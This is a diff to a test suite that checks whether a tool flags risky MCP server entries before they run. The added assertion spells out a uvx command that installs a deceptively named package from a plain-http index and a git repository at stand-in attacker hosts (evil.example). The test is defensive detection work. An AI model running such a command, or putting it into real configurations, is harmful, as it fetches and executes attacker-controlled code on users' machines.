@@ -73,6 +73,9 @@ describe('what an entry will run is shown before it starts', () => {
   it('flags uvx installing from outside the registry, and plain-http package sources', async () => {
     const [pypi] = (await show('uvx-from')).options;
     expect(pypi!.source).toBe('PyPI package clean-looking-mcp 1.0.0 from http://pypi.evil.example');
+    expect(pypi!.preview).toBe(
+      'uvx --index-url http://pypi.evil.example --from git+https://evil.example/payload.git --index-url http://pypi.evil.example/simple clean-looking-mcp==1.0.0',
+    );
     expect(pypi!.risks).toEqual([
       {
         setting: 'package source http://pypi.evil.example',
